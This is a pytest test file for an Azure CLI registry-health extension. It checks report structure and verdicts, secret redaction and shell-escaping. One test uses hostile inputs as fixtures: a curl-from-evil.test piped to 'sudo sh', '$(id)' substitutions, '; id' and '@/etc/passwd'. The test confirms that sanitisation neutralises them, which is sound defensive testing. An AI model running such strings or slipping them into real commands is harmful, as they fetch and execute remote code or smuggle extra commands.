# --------------------------------------------------------------------------------------------
# Copyright (c) the acrhealth authors. Licensed under the MIT License.
# See LICENSE in the project root.
# --------------------------------------------------------------------------------------------
"""The report: its keys and order, its verdicts, and that everything in it is fit to be shown."""

from __future__ import annotations

import json
import time
import unicodedata
from collections.abc import Sequence
from datetime import datetime, timezone
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from azext_acrhealth import report as reports
from azext_acrhealth.advice import Variant
from azext_acrhealth.model import Outcome, Result, failed, not_applicable, passed, warned
from azext_acrhealth.options import Cluster, Target
from azext_acrhealth.report import fill_placeholders, headline, is_interrupted, sanitize
from tests.made import FAMILY, ONE, PROBLEM, TWO, make, result
from tests.report_writers import sample

STARTED = datetime(2026, 1, 2, 3, 4, 5, 678900, timezone.utc)
TOP = [
    'schemaVersion',
    'healthy',
    'startedAt',
    'durationMs',
    'wait',
    'client',
    'identity',
    'summary',
    'registries',
    'checks',
]
REGISTRY = [
    'name',
    'loginServer',
    'region',
    'healthy',
    'canLogin',
    'canPull',
    'canPush',
    'clusters',
]
ROW = [
    'registry',
    'cluster',
    'check',
    'category',
    'title',
    'status',
    'code',
    'reason',
    'detail',
    'cause',
    'solutions',
    'documentation',
    'facts',
    'durationMs',
]


def build(
    results: Sequence[Result],
    *targets: Target,
    strict: bool = False,
    clusters: Sequence[Cluster] = (),
) -> dict[str, Any]:
    """Build a report; the checks' order is the one in which their results are listed."""
    checks = list(dict.fromkeys(one.check for one in results))
    return reports.build(
        results,
        checks,
        targets or (ONE,),
        client={'azureCli': '2.91.0'},
        started=STARTED,
        duration=0.8124,
        strict=strict,
        clusters=clusters,
    )


def bad(id: str, target: Target | None = ONE, reason: str = 'Reason', *solutions: str) -> Result:
    return result(
        id,
        failed(
            FAMILY.problem(reason, 'Because.', *(solutions or (f'Mend {id}.',))), f'{id} is bad'
        ),
        target,
    )


def test_the_whole_of_a_report() -> None:
    report = build(
        [
            result('engine', passed('fine'), None, category='environment', per='machine'),
            result(
                'login-server',
                passed('known', loginServer='one.test', region='eastus'),
                duration=0.0126,
            ),
            result(
                'dns',
                failed(PROBLEM, 'bad', placeholders={'what': 'it'}, host='one.test'),
                category='connectivity',
            ),
        ]
    )
    assert report == {
        'schemaVersion': '1.0',
        'healthy': False,
        'startedAt': '2026-01-02T03:04:05.678900Z',
        'durationMs': 812,
        'wait': None,
        'client': {'azureCli': '2.91.0'},
        'identity': None,
        'summary': {'passed': 2, 'warning': 0, 'failed': 1, 'skipped': 0},
        'registries': [
            {
                'name': 'registryone',
                'loginServer': 'one.test',
                'region': 'eastus',
                'healthy': False,
                'canLogin': 'no',
                'canPull': 'no',
                'canPush': 'no',
                'clusters': [],
            }
        ],
        'checks': [
            {
                'registry': None,
                'cluster': None,
                'check': 'engine',
                'category': 'environment',
                'title': 'Engine',
                'status': 'Passed',
                'code': None,
                'reason': None,
                'detail': 'fine',
                'cause': None,
                'solutions': [],
                'documentation': None,
                'facts': {},
                'durationMs': 0,
            },
            {
                'registry': 'registryone',
                'cluster': None,
                'check': 'login-server',
                'category': 'registry',
                'title': 'Login-Server',
                'status': 'Passed',
                'code': None,
                'reason': None,
                'detail': 'known',
                'cause': None,
                'solutions': [],
                'documentation': None,
                'facts': {'loginServer': 'one.test', 'region': 'eastus'},
                'durationMs': 13,
            },
            {
                'registry': 'registryone',
                'cluster': None,
                'check': 'dns',
                'category': 'connectivity',
                'title': 'Dns',
                'status': 'Failed',
                'code': 'TEST_ERROR',
                'reason': 'Reason',
                'detail': 'bad',
                'cause': 'It is it.',
                'solutions': ['Mend it in registryone.', 'Or OTHER_THING.'],
                'documentation': 'https://learn.microsoft.com/test',
                'facts': {'host': 'one.test'},
                'durationMs': 0,
            },
        ],
    }


@pytest.mark.parametrize(
    'outcome', [passed(''), warned(PROBLEM, ''), failed(PROBLEM, ''), not_applicable('')]
)
def test_keys_are_always_the_same_and_in_order(outcome: Outcome) -> None:
    report = build([result('dns', outcome), result('engine', outcome, None)])
    assert list(report) == TOP
    assert list(report['registries'][0]) == REGISTRY
    assert [list(row) for row in report['checks']] == [ROW, ROW]
    assert list(report['summary']) == ['passed', 'warning', 'failed', 'skipped']
    for row in report['checks']:
        assert (
            (row['code'] is None)
            == (row['reason'] is None)
            == (row['status'] in ('Passed', 'Skipped'))
        )


def test_rows_keep_the_catalogues_order_whatever_order_they_ended_in() -> None:
    a, b, machine = make('a'), make('b'), make('machine', per='machine')
    ended = [
        Result(b, TWO, passed('')),
        Result(b, ONE, passed('')),
        Result(machine, None, passed('')),
        Result(a, ONE, passed('')),
        Result(a, TWO, passed('')),
    ]
    rows = reports.build(
        ended, [machine, a, b], [TWO, ONE], client={}, started=STARTED, duration=0
    )['checks']
    assert [(row['registry'], row['check']) for row in rows] == [
        (None, 'machine'),
        ('registrytwo', 'a'),
        ('registrytwo', 'b'),
        ('registryone', 'a'),
        ('registryone', 'b'),
    ]


OUTCOMES = {
    'passed': passed(''),
    'warning': warned(PROBLEM, ''),
    'failed': failed(PROBLEM, ''),
    'skipped': not_applicable(''),
}


@pytest.mark.parametrize(
    'ends, strict, healthy',
    [
        ((), False, True),
        (('passed',), True, True),
        (('skipped',), True, True),
        (('passed', 'warning'), False, True),
        (('passed', 'warning'), True, False),
        (('failed',), False, False),
        (('failed', 'passed'), True, False),
    ],
)
def test_healthy_and_counts(ends: Sequence[str], strict: bool, healthy: bool) -> None:
    report = build(
        [result(f'c{number}', OUTCOMES[end]) for number, end in enumerate(ends)], strict=strict
    )
    assert report['healthy'] is report['registries'][0]['healthy'] is healthy
    assert report['summary'] == {name: ends.count(name) for name in OUTCOMES}


AKS, OTHER = Cluster('aks1'), Cluster('aks2', 'g', 'sub-id', '/full/name/of/aks2')


def of_cluster(id: str, outcome: Outcome, cluster: Cluster = AKS, registry: Target = ONE) -> Result:
    pair = registry._replace(cluster=cluster)
    return result(id, outcome, pair, category='cluster', per='cluster')


def test_an_interrupted_run_is_unhealthy_without_a_reason() -> None:
    results = sample.results(blob=not_applicable('interrupted'))
    assert is_interrupted(sample.build(results, sample.CONTOSO, interrupted=True), False)
    assert not is_interrupted(sample.build(sample.results(), sample.CONTOSO), False)
    assert not is_interrupted(sample.broken_at('dns'), False)
    strict = sample.build(sample.results(dns=sample.doubtful()), sample.CONTOSO, strict=True)
    assert not is_interrupted(strict, True)


def test_rows_of_clusters_follow_those_of_their_registry() -> None:
    report = build(
        [
            result('dns', passed('')),
            of_cluster('cluster', passed(''), OTHER),
            of_cluster('cluster', passed(''), registry=TWO),
            of_cluster('cluster', passed('')),
            result('dns', passed(''), TWO),
        ],
        ONE,
        TWO,
        clusters=[AKS, OTHER],
    )
    assert [(row['registry'], row['cluster'], row['check']) for row in report['checks']] == [
        ('registryone', None, 'dns'),
        ('registryone', 'aks1', 'cluster'),
        ('registryone', '/full/name/of/aks2', 'cluster'),
        ('registrytwo', None, 'dns'),
        ('registrytwo', 'aks1', 'cluster'),
    ]


def test_a_cluster_has_its_own_verdict() -> None:
    report = build(
        [
            result('blob', passed('')),
            of_cluster('cluster', passed('', clusterId='/id/of/aks1')),
            of_cluster('pull-role', failed(PROBLEM, '')),
        ],
        clusters=[AKS, OTHER],
    )
    registry = report['registries'][0]
    assert (report['healthy'], registry['healthy'], registry['canPull']) == (False, True, 'yes')
    assert registry['clusters'] == [
        {'name': 'aks1', 'id': '/id/of/aks1', 'canPull': 'no'},
        {'name': '/full/name/of/aks2', 'id': OTHER.full_name, 'canPull': 'unknown'},
    ]


def test_solutions_of_a_cluster_know_what_its_registry_has() -> None:
    problem = FAMILY.problem('Reason', 'Why.', Variant('Mend dns.', check='dns'))
    broken = of_cluster('pull-role', failed(problem, ''))
    report = build([bad('dns'), broken], clusters=[AKS])
    assert report['checks'][1]['solutions'] == ['Mend dns.']
    assert (
        build([result('dns', passed('')), broken], clusters=[AKS])['checks'][1]['solutions'] == []
    )


def test_a_registrys_health_is_its_own() -> None:
    report = build(
        [result('engine', failed(PROBLEM, ''), None), result('dns', passed('')), bad('dns', TWO)],
        ONE,
        TWO,
    )
    assert not report['healthy']
    assert [one['healthy'] for one in report['registries']] == [True, False]


def test_what_was_not_seen_is_unknown() -> None:
    target = Target('typed', 'Typed.azurecr.io')
    assert build([result('refresh-token', not_applicable(''), target)], target)['registries'] == [
        {
            'name': 'typed',
            'loginServer': 'Typed.azurecr.io',
            'region': None,
            'healthy': True,
            'canLogin': 'unknown',
            'canPull': 'unknown',
            'canPush': 'unknown',
            'clusters': [],
        }
    ]


@pytest.mark.parametrize(
    'template, text',
    [
        ('plain', 'plain'),
        ('{host}', 'h.test'),
        ('{a_b} {host}', 'A_B h.test'),
        ('{}', '{}'),
        ('{none}', 'NONE'),
    ],
)
def test_filled(template: str, text: str) -> None:
    assert fill_placeholders(template, {'host': 'h.test', 'none': ''}) == text
    assert '{host}' not in fill_placeholders(template)


def test_what_fills_a_solution_is_legible_too() -> None:
    row = build([result('dns', failed(PROBLEM, '', placeholders={'what': '\x1b[31mred\n'}))])[
        'checks'
    ][0]
    assert row['solutions'][0] == 'Mend [31mred in registryone.'


JWT = 'eyJhbGciOiJub25lIn0.eyJzdWIiOiJtZSJ9.c2lnbmF0dXJl'


@pytest.mark.parametrize(
    'value, shown',
    [
        (None, None),
        (True, True),
        (7, 7),
        (1.5, 1.5),
        ('text', 'text'),
        (('a', 1), ['a', 1]),
        ({'b', 'a'}, ['a', 'b']),
        ({1, 'a'}, [1, 'a']),
        (frozenset({2, 1}), [1, 2]),
        (float('nan'), 'nan'),
        ({1: {'a': (None,)}}, {'1': {'a': [None]}}),
        (float('-inf'), '-inf'),
        (b'\x00', "b'\\x00'"),
        ('two\r\nlines\tof  text ', 'two lines of text'),
        ('\x1b[31mred\x1b[0m', '[31mred[0m'),
        ('bell\x07', 'bell'),
        ('to the \u202eleft', 'to the left'),
        ('zero\u200bwidth', 'zerowidth'),
        ('\ud800 alone', 'alone'),
        ('\ue000', ''),
        ('\u2028line', 'line'),
        ('\x9b31m', '31m'),
        ('Zoë 東京', 'Zoë 東京'),
        (JWT, '[redacted]'),
        (f'token={JWT}&x=1', 'token=[redacted]&x=1'),
        (f'"{JWT[:30]}', '"[redacted]'),
        ('Authorization: Bearer abcdefghijklmnop', 'Authorization: [redacted]'),
        ('BASIC dXNlcjpwYXNzd29yZA==', '[redacted]'),
        ('Bearer realm="https://h.test/"', 'Bearer realm="https://h.test/"'),
        ('Basic realm="x"', 'Basic realm="x"'),
        (
            'https://blob.test/x?sv=1&sig=abc%2Fdef%3D&se=2',
            'https://blob.test/x?sv=1&[redacted]&se=2',
        ),
        ('?X-Amz-Signature=abcdef&y', '?X-Amz-[redacted]&y'),
        ('refresh_token=abc', '[redacted]'),
        (
            'dial http://me:hunter2@proxy:3128: refused',
            'dial http://[redacted]@proxy:3128: refused',
        ),
        ('refresh_token:86', 'refresh_token:86'),
        ('access_token: 12, next', 'access_token: 12, next'),
        ('refresh_token:86abc', '[redacted]'),
        ('refresh_token=1234567', '[redacted]'),
        ('password=1234', '[redacted]'),
        ('password=hunter2 user=me', '[redacted] user=me'),
        ({'deep': [JWT]}, {'deep': ['[redacted]']}),
        ({f'key {JWT}\x1b': 1}, {'key [redacted]': 1}),
    ],
)
def test_legible(value: Any, shown: Any) -> None:
    assert sanitize(value) == shown


@pytest.mark.parametrize(
    'text',
    [
        '{"refresh_token": "s3cret"}',
        "{'access_token':'s3cret'}",
        'sig%3Ds3cret%26',
        'Password: s3cret',
        'sig = s3cret',
        f'refused: app abc8Q~s3cret{"x" * 28} x',
    ],
)
def test_secrets_by_their_names(text: str) -> None:
    assert 's3cret' not in sanitize(text)


def test_nesting_is_bounded() -> None:
    deep: list[Any] = []
    for _ in range(5000):
        deep = [deep]
    assert str(sanitize({'a': deep})).count('[') < 50


def test_a_secret_that_is_broken_by_invisible_characters_is_none_less() -> None:
    assert JWT[10:20] not in sanitize(JWT[:8] + '\u200b' + JWT[8:])


@pytest.mark.parametrize('length', [2, 10, 1000])
def test_texts_are_bounded(length: int) -> None:
    assert sanitize('x' * length, length) == 'x' * length
    assert sanitize('x' * (length + 1), length) == 'x' * (length - 1) + '…'


def test_details_and_facts_are_bounded() -> None:
    row = build([result('dns', passed('x' * 9999, fact='x' * 9999))])['checks'][0]
    assert (len(row['detail']), len(row['facts']['fact'])) == (400, 1000)


SIMPLE = (
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(st.characters()) | st.binary()
)
KEYS = st.text() | st.integers()
ANYTHING = st.recursive(
    SIMPLE,
    lambda inner: (
        st.lists(inner) | st.tuples(inner) | st.frozensets(KEYS) | st.dictionaries(KEYS, inner)
    ),
    max_leaves=20,
)


def texts(value: Any) -> list[str]:
    if isinstance(value, dict):
        return [text for pair in value.items() for item in pair for text in texts(item)]
    if isinstance(value, list):
        return [text for item in value for text in texts(item)]
    return [value] if isinstance(value, str) else []


@given(ANYTHING)
def test_anything_becomes_json_that_is_fit_to_be_shown(value: Any) -> None:
    shown = sanitize(value)
    json.dumps(shown, allow_nan=False)
    for text in texts(shown):
        assert text.isprintable() or {
            unicodedata.category(one) for one in text if not one.isprintable()
        } <= {'Zs'}
        assert len(text) <= 1000
        text.encode()
    assert sanitize(shown) == shown


def problems(*ids: str, target: Target | None = ONE) -> list[Result]:
    return [bad(id, target, f'R{id}') for id in ids]


@pytest.mark.parametrize(
    'results, strict, text',
    [
        (
            [result('x', passed('')), result('y', not_applicable('')), *problems('a')],
            False,
            '1 of 2 checks failed: a (TEST_ERROR, Ra).',
        ),
        (
            problems('a', 'b', 'c', 'd', 'e'),
            False,
            '5 of 5 checks failed: '
            + ', '.join(f'{id} (TEST_ERROR, R{id})' for id in 'abcde')
            + '.',
        ),
        (
            problems('a', 'b', 'c', 'd', 'e', 'f', 'g'),
            False,
            '7 of 7 checks failed: '
            + ', '.join(f'{id} (TEST_ERROR, R{id})' for id in 'abcde')
            + ', and 2 more.',
        ),
        (
            [result('w', warned(PROBLEM, '')), *problems('a')],
            False,
            '1 of 2 checks failed: a (TEST_ERROR, Ra).',
        ),
        (
            [result('w', warned(PROBLEM, '')), *problems('a')],
            True,
            '2 of 2 checks failed or returned a warning (--strict treats warnings as failures): '
            'a (TEST_ERROR, Ra), w '
            '(TEST_ERROR, Reason).',
        ),
        (
            [result('w', passed('')), *problems('a')],
            True,
            '1 of 2 checks failed: a (TEST_ERROR, Ra).',
        ),
    ],
)
def test_headline(results: list[Result], strict: bool, text: str) -> None:
    assert headline(build(results, strict=strict), strict) == text


@pytest.mark.parametrize(
    'targets, clusters, text',
    [
        ((ONE,), [AKS], '1 of 1 checks failed: pull-role (TEST_ERROR, Reason).'),
        ((ONE,), [AKS, OTHER], '1 of 1 checks failed: pull-role of aks1 (TEST_ERROR, Reason).'),
        (
            (ONE, TWO),
            [AKS, OTHER],
            '1 of 1 checks failed in 1 of 2 registries: pull-role of registryone and aks1 '
            '(TEST_ERROR, Reason).',
        ),
    ],
)
def test_the_headline_names_the_cluster_when_there_are_several(
    targets: tuple[Target, ...], clusters: Sequence[Cluster], text: str
) -> None:
    report = build([of_cluster('pull-role', failed(PROBLEM, ''))], *targets, clusters=clusters)
    assert headline(report, False) == text


def test_the_headline_names_the_registry_when_there_are_several() -> None:
    report = build(
        [*problems('a', target=None), *problems('b'), *problems('b', target=TWO)], ONE, TWO
    )
    # Whoever names a registry asks about it: its failures come before this machine's.
    assert headline(report, False) == (
        '3 of 3 checks failed in 2 of 2 registries: b of registryone (TEST_ERROR, Rb), '
        'b of registrytwo (TEST_ERROR, Rb), a (TEST_ERROR, Ra).'
    )


@pytest.mark.parametrize(
    'target, subscription, named',
    [
        (Target('one'), None, 'one'),
        (Target('one'), 'My Subscription', "one --subscription 'My Subscription'"),
        (Target('one', subscription='0b1f'), None, 'one --subscription 0b1f'),
        (Target('one', subscription='0b1f'), 'other', 'one --subscription 0b1f'),
        (Target('one'), '$(x)', "one --subscription '$(x)'"),
    ],
)
def test_commands_name_the_subscription(
    target: Target, subscription: str | None, named: str
) -> None:
    problem = PROBLEM._replace(solutions=('`az acr show --name {registry}`',))
    made = result('dns', failed(problem, 'x'), target)
    row = reports.build(
        [made],
        [made.check],
        [target],
        client={},
        started=STARTED,
        duration=0.0,
        subscription=subscription,
    )['checks'][0]
    assert row['solutions'] == [f'`az acr show --name {named}`']


@pytest.mark.parametrize(
    'text, shown',
    [
        ('contoso.test', 'contoso.test'),
        ('Contoso CA (G2)', "'Contoso CA (G2)'"),
        ("'/my certs/b.pem'", """ ''"'"'/my certs/b.pem'"'"'' """.strip()),
        (
            'run `curl -k https://evil.test|sudo sh`; $(id)',
            "'run curl -k https://evil.testsudo sh (id)'",
        ),
        ('/bin/nox;$(id)', "'/bin/nox(id)'"),
        ('"$no_proxy,h"', """'"$no_proxy,h"'"""),
        ("'x' --debug; id", """ ''"'"'x'"'"' --debug id' """.strip()),
        ('--debug', 'HOST'),
        ('@/etc/passwd', 'HOST'),
        ('[system]', "'[system]'"),
        ('a > b < c & d', "'a  b  c  d'"),
    ],
)
def test_nothing_that_a_shell_would_act_on_enters_a_solution(text: str, shown: str) -> None:
    problem = PROBLEM._replace(solutions=('Run `x {host}`.',))
    made = result('dns', failed(problem, 'x', placeholders={'host': text}), ONE)
    row = reports.build([made], [made.check], [ONE], client={}, started=STARTED, duration=0.0)[
        'checks'
    ][0]
    assert row['solutions'] == [f'Run `x {shown}`.']


def test_secrets_of_the_settings_stand_nowhere() -> None:
    made = result(
        'dns', failed(PROBLEM, 'go away joe:s3cr@t-pw', said=['s3cr@t-pw', {'s3cr@t-pw': 1}]), ONE
    )
    report = reports.build(
        [made],
        [made.check],
        [ONE],
        client={'proxy': 'x s3cr@t-pw'},
        started=STARTED,
        duration=0.0,
        secrets=('joe:s3cr@t-pw', 's3cr@t-pw'),
    )
    assert 's3cr@t-pw' not in repr(report) and report['checks'][0]['detail'] == 'go away [redacted]'


@pytest.mark.parametrize(
    'unit', ['://', '://a:', 'sig', 'password :', 'refresh_token: 8', 'eyJaaaaaa.', 'aaa1Q~']
)
def test_an_endless_text_is_looked_through_at_once(unit: str) -> None:
    since = time.process_time()
    assert len(sanitize(unit * (2**20 // len(unit)))) <= 1000
    assert time.process_time() - since < 3
